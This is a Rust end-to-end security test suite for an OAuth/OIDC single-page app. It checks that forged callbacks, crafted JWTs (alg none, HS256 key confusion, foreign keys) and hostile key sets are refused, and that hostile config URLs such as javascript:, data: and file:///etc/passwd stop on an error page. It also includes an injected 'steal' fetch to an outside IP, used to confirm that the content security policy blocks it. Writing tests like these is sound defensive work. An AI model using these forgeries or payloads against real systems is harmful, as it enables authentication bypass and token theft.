//! Hostile input against the app in headless Chromium, served with the
//! production CSP: forged callbacks, tokens from another pool, crafted and
//! malformed tokens, hostile key sets, a key rotated mid-session and hostile
//! config.json URLs. Every case must end on the contract's `auth-error` word
//! (or the configuration error page naming the key) with no session; and no
//! code, token or verifier may show in the console, devstack's log, the
//! address bar, or storage after sign-out.

use std::sync::{Arc, RwLock};

use axum::extract::State;
use axum::http::{header, StatusCode};
use axum::response::{IntoResponse, Response};
use e2e::hosted_ui::{answer_for, param, replace_param};
use e2e::stack::{PASSWORD, USER};
use e2e::{Options, Stack};
use serde_json::{json, Value};
use test_support::{self as forge, b64, claims_of, header_of};

// ---------------------------------------------------------------- helpers

/// Starts a sign-in from the home page and returns the hosted UI login URL
/// (with the app's state, nonce and PKCE challenge).
async fn login_url(stack: &Stack, flow: &str) -> String {
    stack.browser.goto(&stack.url("/")).await;
    stack.start_sign_in(flow).await;
    stack.browser.css("input#password").await;
    stack.browser.current_url().await
}

fn query_of(url: &str) -> &str {
    url.split_once('?').map_or("", |(_, q)| q)
}

/// RS256 with one of devstack's key pairs (or any other).
fn sign_rs256(key: &devstack::keys::KeyPair, header: &Value, claims: &Value) -> String {
    forge::signed(&forge::signing_input(header, claims), |input| {
        key.sign(input)
    })
}

/// Delivers `fragment` to `/callback` and returns the `auth-error` text,
/// after checking that no session was created.
async fn deliver_fragment(stack: &Stack, fragment: &str) -> String {
    stack
        .browser
        .goto(&stack.url(&format!("/callback#{fragment}")))
        .await;
    let text = stack.auth_error().await;
    stack.assert_no_session().await;
    text
}

/// A small server for a hostile JWKS: answers whatever `set` last put in.
struct KeySetServer {
    origin: String,
    body: Arc<RwLock<(StatusCode, String)>>,
    task: tokio::task::JoinHandle<()>,
}

impl KeySetServer {
    async fn start(body: String) -> KeySetServer {
        let body = Arc::new(RwLock::new((StatusCode::OK, body)));
        async fn answer(State(body): State<Arc<RwLock<(StatusCode, String)>>>) -> Response {
            let (status, text) = body.read().unwrap().clone();
            (
                status,
                [
                    (header::CONTENT_TYPE, "application/json"),
                    (header::ACCESS_CONTROL_ALLOW_ORIGIN, "*"),
                ],
                text,
            )
                .into_response()
        }
        let app = axum::Router::new()
            .fallback(answer)
            .with_state(body.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let origin = format!("http://{}", listener.local_addr().unwrap());
        let task = tokio::spawn(async move {
            let _ = axum::serve(listener, app).await;
        });
        KeySetServer { origin, body, task }
    }

    fn url(&self) -> String {
        format!("{}/jwks.json", self.origin)
    }

    fn set(&self, status: StatusCode, body: impl Into<String>) {
        *self.body.write().unwrap() = (status, body.into());
    }
}

impl Drop for KeySetServer {
    fn drop(&mut self) {
        self.task.abort();
    }
}

// ------------------------------------------------------------------ tests

#[tokio::test]
async fn forged_code_callbacks_are_refused() {
    let stack = Stack::start().await;

    // 1. A replayed code: already redeemed (here by an attacker who did not
    //    even know the verifier; a failed redemption burns it, as on Cognito).
    let login = login_url(&stack, "code").await;
    let answer = answer_for(&login, USER, PASSWORD).await;
    let query = query_of(&answer).to_owned();
    let code = param(&query, "code").unwrap();
    let (status, _) = stack
        .redeem_code(&code, "attacker-guess-000000000000000000000000000000")
        .await;
    assert_eq!(status, 400);
    stack
        .browser
        .goto(&stack.url(&format!("/callback?{query}")))
        .await;
    let text = stack.auth_error().await;
    assert!(
        text.starts_with("token endpoint") && text.contains("invalid_grant"),
        "{text}"
    );
    stack.assert_no_session().await;

    // 2. A code issued to another app client (a second devstack whose
    //    client has another id), delivered with this tab's own state.
    let other = stack
        .other_devstack(
            |seed| seed.client.client_id = "otherclient0000000000000001".into(),
            None,
        )
        .await;
    let login = login_url(&stack, "code").await;
    let state = param(query_of(&login), "state").unwrap();
    let other_login = format!(
        "{}/login?{}",
        other.hosted_ui_url(),
        replace_param(query_of(&login), "client_id", &other.client_id())
    );
    let other_answer = answer_for(&other_login, USER, PASSWORD).await;
    let other_code = param(query_of(&other_answer), "code").unwrap();
    let forged = format!("code={other_code}&state={state}");
    stack
        .browser
        .goto(&stack.url(&format!("/callback?{forged}")))
        .await;
    let text = stack.auth_error().await;
    assert!(text.contains("invalid_grant"), "{text}");
    stack.assert_no_session().await;

    // 3. A response meant for another tab: its own state and code, replayed
    //    into this tab, which is waiting for a different state.
    let c = &stack.browser.client;
    let _mine = login_url(&stack, "code").await;
    let first = c.window().await.unwrap();
    let second = c.new_window(true).await.unwrap();
    c.switch_to_window(second.handle.clone()).await.unwrap();
    let theirs = login_url(&stack, "code").await;
    c.close_window().await.unwrap();
    c.switch_to_window(first).await.unwrap();
    let their_answer = answer_for(&theirs, USER, PASSWORD).await;
    stack
        .browser
        .goto(&stack.url(&format!("/callback?{}", query_of(&their_answer))))
        .await;
    let text = stack.auth_error().await;
    assert!(text.starts_with("state"), "{text}");
    stack.assert_no_session().await;

    let log = other.log_lines();
    other.shutdown().await;
    for line in log {
        assert!(!line.contains(&other_code), "{line}");
    }
    stack.close().await;
}

#[tokio::test]
async fn tokens_from_another_user_pool_are_refused() {
    let stack = Stack::start().await;
    // Another pool with its own keys: the app's key set has no such kid,
    // even after refetching it once.
    let own_keys = tokio::task::spawn_blocking(devstack::KeyStore::generate)
        .await
        .unwrap()
        .unwrap();
    let foreign = stack
        .other_devstack(
            |seed| seed.pool.id = "eu-west-1_Other0001".into(),
            Some(own_keys),
        )
        .await;
    // Another pool that (absurdly) shares the keys: the issuer gives it away.
    let same_keys = stack
        .other_devstack(|seed| seed.pool.id = "eu-west-1_Other0002".into(), None)
        .await;
    for (other, word) in [(&foreign, "kid"), (&same_keys, "issuer")] {
        let login = login_url(&stack, "implicit").await;
        let other_login = format!("{}/login?{}", other.hosted_ui_url(), query_of(&login));
        let answer = answer_for(&other_login, USER, PASSWORD).await;
        let fragment = answer.split_once('#').unwrap().1;
        let text = deliver_fragment(&stack, fragment).await;
        assert!(text.starts_with(word), "{word}: {text}");
    }
    foreign.shutdown().await;
    same_keys.shutdown().await;
    stack.close().await;
}

#[tokio::test]
async fn crafted_and_malformed_tokens_are_refused() {
    let stack = Stack::start().await;
    let keys = e2e::stack::keys();
    let stranger = tokio::task::spawn_blocking(devstack::keys::KeyPair::generate)
        .await
        .unwrap()
        .unwrap();

    type Craft = Box<dyn Fn(&str) -> String>;
    let id_key = keys.id_key().kid().to_owned();
    let public_jwk = keys.id_key().jwk().to_string();
    let cases: Vec<(&str, &str, Craft)> = vec![
        (
            "alg none",
            "algorithm",
            Box::new({
                let kid = id_key.clone();
                move |id: &str| {
                    let header = json!({"alg": "none", "kid": kid});
                    forge::unsigned(&format!(
                        "{}.{}",
                        b64(header.to_string()),
                        id.split('.').nth(1).unwrap()
                    ))
                }
            }),
        ),
        (
            "HS256 signed with the public key as the HMAC secret",
            "algorithm",
            Box::new({
                let kid = id_key.clone();
                move |id: &str| {
                    let header = json!({"alg": "HS256", "kid": kid});
                    let input = format!(
                        "{}.{}",
                        b64(header.to_string()),
                        id.split('.').nth(1).unwrap()
                    );
                    forge::hs256(&input, public_jwk.as_bytes())
                }
            }),
        ),
        (
            "signed by a key that is in no key set (rotated in by an attacker)",
            "kid",
            Box::new(move |id: &str| {
                let header = json!({"alg": "RS256", "kid": stranger.kid()});
                sign_rs256(&stranger, &header, &claims_of(id))
            }),
        ),
        (
            "well signed, but for another issuer",
            "issuer",
            Box::new(move |id: &str| {
                let mut claims = claims_of(id);
                claims["iss"] =
                    json!("https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Evil0001");
                sign_rs256(e2e::stack::keys().id_key(), &header_of(id), &claims)
            }),
        ),
        (
            "well signed, but for another client",
            "audience",
            Box::new(move |id: &str| {
                let mut claims = claims_of(id);
                claims["aud"] = json!("someone-elses-client");
                sign_rs256(e2e::stack::keys().id_key(), &header_of(id), &claims)
            }),
        ),
        (
            "a 1 MB claim under a forged signature",
            "signature",
            Box::new(move |id: &str| {
                let mut claims = claims_of(id);
                claims["custom:padding"] = json!("A".repeat(1 << 20));
                let signature = id.rsplit('.').next().unwrap();
                format!(
                    "{}.{}.{signature}",
                    b64(header_of(id).to_string()),
                    b64(claims.to_string())
                )
            }),
        ),
        (
            "truncated: two segments",
            "signature",
            Box::new(|id: &str| id.rsplit_once('.').unwrap().0.to_owned()),
        ),
        (
            "truncated mid-signature",
            "signature",
            Box::new(|id: &str| id[..id.len() - 40].to_owned()),
        ),
        (
            "segments that are not base64url",
            "signature",
            Box::new(|id: &str| {
                let mut parts: Vec<&str> = id.split('.').collect();
                parts[1] = "eyJ!!not+base64/==";
                parts.join(".")
            }),
        ),
        (
            "four segments",
            "signature",
            Box::new(|id: &str| format!("{id}.AAAA")),
        ),
        ("empty", "signature", Box::new(|_: &str| String::new())),
    ];

    for (what, word, craft) in &cases {
        let login = login_url(&stack, "implicit").await;
        let answer = answer_for(&login, USER, PASSWORD).await;
        let fragment = answer.split_once('#').unwrap().1;
        let id_token = param(fragment, "id_token").unwrap();
        // The state and nonce are the app's own: only the token is forged.
        assert_eq!(
            claims_of(&id_token)["nonce"].as_str(),
            param(query_of(&login), "nonce").as_deref()
        );
        let forged = replace_param(fragment, "id_token", &craft(&id_token));
        let started = std::time::Instant::now();
        let text = deliver_fragment(&stack, &forged).await;
        assert!(
            text.starts_with(word),
            "{what}: expected {word:?}, got {text:?}"
        );
        assert!(
            started.elapsed() < std::time::Duration::from_secs(10),
            "{what}: refused in {:?}",
            started.elapsed()
        );
    }
    stack.close().await;
}

#[tokio::test]
async fn hostile_key_sets_are_refused() {
    let server = KeySetServer::start("{}".into()).await;
    let stack = Stack::with(Options {
        config: json!({"jwksUri": server.url()}),
        ..Options::default()
    })
    .await;
    let junk_keys = json!({"keys": [
        {"kty": "EC", "crv": "P-256", "kid": "ec", "x": "AA", "y": "AA"},
        {"kty": "oct", "kid": "oct", "k": "c2VjcmV0"},
        {"kty": "RSA", "kid": "bad-n", "n": "!!!", "e": "AQAB"},
        {"kty": "RSA", "kid": "no-n"},
        {"kty": "RSA", "kid": 42, "n": "AQAB", "e": "AQAB"},
        "not an object",
        null
    ]});
    let real_kid_with_junk = {
        let mut jwk = e2e::stack::keys().id_key().jwk();
        jwk["n"] = json!("AQAB");
        json!({"keys": [jwk]})
    };
    let cases: Vec<(&str, StatusCode, String, &[&str])> = vec![
        (
            "only junk keys",
            StatusCode::OK,
            junk_keys.to_string(),
            &["kid", "jwks"],
        ),
        (
            "the right kid with a junk modulus",
            StatusCode::OK,
            real_kid_with_junk.to_string(),
            &["signature", "kid"],
        ),
        (
            "not JSON",
            StatusCode::OK,
            "<html>surprise</html>".into(),
            &["jwks"],
        ),
        (
            "no keys member",
            StatusCode::OK,
            "{\"keyz\": []}".into(),
            &["jwks"],
        ),
        (
            "a server error",
            StatusCode::INTERNAL_SERVER_ERROR,
            "{}".into(),
            &["jwks"],
        ),
        (
            "two megabytes of nothing",
            StatusCode::OK,
            format!("{{\"keys\": [], \"pad\": \"{}\"}}", "x".repeat(2 << 20)),
            &["kid", "jwks"],
        ),
    ];
    for (what, status, body, words) in cases {
        server.set(status, body);
        let login = login_url(&stack, "implicit").await;
        let answer = answer_for(&login, USER, PASSWORD).await;
        let fragment = answer.split_once('#').unwrap().1;
        let text = deliver_fragment(&stack, fragment).await;
        assert!(
            words.iter().any(|w| text.starts_with(w)),
            "{what}: expected one of {words:?}, got {text:?}"
        );
    }
    stack.close().await;
}

#[tokio::test]
async fn a_key_rotated_mid_session_is_refused_until_it_is_published() {
    let server = KeySetServer::start(String::new()).await;
    let stack = Stack::with(Options {
        config: json!({"jwksUri": server.url()}),
        ..Options::default()
    })
    .await;
    let published = reqwest::get(stack.devstack.jwks_url())
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    server.set(StatusCode::OK, published);
    stack.sign_in("code").await;
    let before = stack.stored_tokens("sessionStorage").await.unwrap();

    // devstack signs with a new key that the key set does not (yet) hold.
    stack.devstack.rotate_keys();
    stack.browser.testid("refresh").await.click().await.unwrap();
    // Refresh brings tokens the app cannot verify: it refuses them, naming
    // the check, and ends the session rather than keep unverifiable tokens.
    let notice = stack.browser.testid_text("session-notice").await;
    assert!(notice.contains("kid"), "{notice}");
    let after = stack.stored_tokens("sessionStorage").await;
    assert!(
        after.is_none() || after.as_ref() == Some(&before),
        "unverified tokens never replace the session: {after:?}"
    );
    assert!(!stack.browser.has("[data-testid=user]").await || after.is_some());

    // Once the new key is published, the next sign-in verifies again.
    let published = reqwest::get(stack.devstack.jwks_url())
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    server.set(StatusCode::OK, published);
    stack.browser.goto(&stack.url("/")).await;
    stack.start_sign_in("code").await;
    stack.wait_signed_in().await;
    stack.close().await;
}

#[tokio::test]
async fn hostile_config_urls_stop_on_the_configuration_error_page() {
    let stack = Stack::start().await;
    let good = stack.devstack.app_config_json(Some(&stack.site.origin()));
    let cases = [
        ("domain", json!("javascript:alert(document.domain)")),
        ("domain", json!("data:text/html,<script>alert(1)</script>")),
        ("domain", json!("http://evil.example.com")),
        ("domain", json!("http://127.0.0.1.evil.example.com")),
        ("domain", json!("http://localhost.evil.example.com")),
        ("jwksUri", json!("data:application/json,{\"keys\":[]}")),
        ("jwksUri", json!("http://attacker.example/jwks.json")),
        ("issuer", json!("javascript:void(0)")),
        ("apiUrl", json!("javascript:fetch('//evil')")),
        ("redirectUri", json!("//evil.example.com/callback")),
        ("logoutUri", json!("vbscript:msgbox")),
        ("logoutUri", json!("file:///etc/passwd")),
    ];
    for (key, value) in cases {
        let mut config = good.clone();
        config[key] = value.clone();
        stack.site.set_config(config.to_string());
        stack.browser.goto(&stack.url("/")).await;
        let named = stack.browser.testid_text("config-error-key").await;
        assert_eq!(named, key, "{key} = {value}");
        assert!(!stack.browser.has("[data-testid=login]").await);
    }
    stack.close().await;
}

#[tokio::test]
async fn no_code_token_or_verifier_leaks_to_console_log_address_bar_or_storage() {
    let stack = Stack::start().await;
    let b = &stack.browser;
    let mut secrets: Vec<String> = Vec::new();

    // Code flow, with the answer captured on its way to the app.
    let login = login_url(&stack, "code").await;
    b.client.back().await.unwrap();
    b.testid("flow").await;
    let pending = stack.storage("sessionStorage", "cognito-spa.pending").await;
    let pending: Value =
        serde_json::from_str(pending.as_str().expect("a pending sign-in")).unwrap();
    let verifier = pending["verifier"]
        .as_str()
        .expect("a PKCE verifier")
        .to_owned();
    secrets.push(verifier);
    let answer = answer_for(&login, USER, PASSWORD).await;
    secrets.push(param(query_of(&answer), "code").unwrap());
    b.goto(&answer).await;
    stack.wait_signed_in().await;
    assert_eq!(b.current_url().await, stack.url("/profile"));
    let tokens = stack.stored_tokens("sessionStorage").await.unwrap();
    for name in ["id_token", "access_token", "refresh_token"] {
        secrets.push(tokens[name].as_str().unwrap().to_owned());
    }
    b.testid("refresh").await.click().await.unwrap();
    b.testid("refresh-result").await;
    let refreshed = stack.stored_tokens("sessionStorage").await.unwrap();
    for name in ["id_token", "access_token"] {
        secrets.push(refreshed[name].as_str().unwrap().to_owned());
    }
    b.testid("logout").await.click().await.unwrap();
    b.testid("session-notice").await;
    assert_eq!(b.current_url().await, stack.url("/"));

    // Implicit flow, through the real form.
    stack.start_sign_in("implicit").await;
    stack.submit_login_form(USER, PASSWORD).await;
    stack.wait_signed_in().await;
    let tokens = stack.stored_tokens("sessionStorage").await.unwrap();
    for name in ["id_token", "access_token"] {
        secrets.push(tokens[name].as_str().unwrap().to_owned());
    }
    assert_eq!(b.current_url().await, stack.url("/profile"));
    b.testid("logout").await.click().await.unwrap();
    b.testid("session-notice").await;

    // Storage after sign-out: no token, no sign-in secret, nothing JWT-like.
    let storage = b
        .eval(
            "const all = {}; for (const area of [sessionStorage, localStorage]) \
             for (let i = 0; i < area.length; i++) all[area.key(i)] = area.getItem(area.key(i)); \
             return JSON.stringify(all)",
        )
        .await;
    let storage = storage.as_str().unwrap().to_owned();
    assert!(
        !storage.contains("eyJ"),
        "a JWT is left in storage: {storage}"
    );

    // Everything in the console, Chromium's own warnings included (they
    // carry the page's address, which on /callback is the hosted UI's
    // answer), is checked whole.
    let console = b.console_log().await.join("\n");
    let devstack_log = stack.devstack.log_lines().join("\n");
    let address = b.current_url().await;
    assert!(!devstack_log.is_empty());
    for secret in &secrets {
        assert!(secret.len() >= 20, "a real secret: {secret}");
        assert!(
            !console.contains(secret.as_str()),
            "the console shows a secret:\n{console}"
        );
        assert!(
            !devstack_log.contains(secret.as_str()),
            "devstack's log shows a secret"
        );
        assert!(
            !address.contains(secret.as_str()),
            "the address bar shows a secret"
        );
        assert!(
            !storage.contains(secret.as_str()),
            "storage keeps a secret after sign-out"
        );
    }
    stack.close().await;
}

#[tokio::test]
async fn the_production_csp_is_served_and_a_violation_is_caught() {
    let stack = Stack::start().await;
    let index = reqwest::get(stack.url("/")).await.unwrap();
    let csp = index.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        csp.starts_with("default-src 'none'; script-src 'self' 'wasm-unsafe-eval' 'sha256-"),
        "{csp}"
    );
    assert!(csp.contains(&stack.devstack.hosted_ui_url()), "{csp}");
    assert_eq!(index.headers()["x-frame-options"], "DENY");

    // The whole sign-in runs under it without a violation...
    stack.sign_in("code").await;
    assert!(stack.browser.csp_violations().await.is_empty());
    // ...and a violation would not go unnoticed: an injected script that
    // phones home is blocked and reported.
    stack
        .browser
        .eval("fetch('http://203.0.113.7/steal?t=1').catch(() => {}); return null")
        .await;
    let mut violations = Vec::new();
    for _ in 0..50 {
        violations = stack.browser.csp_violations().await;
        if !violations.is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert!(
        violations.iter().any(|v| v.contains("connect-src")),
        "{violations:?}"
    );
    let Stack {
        browser, devstack, ..
    } = stack;
    browser.close().await;
    devstack.shutdown().await;
}
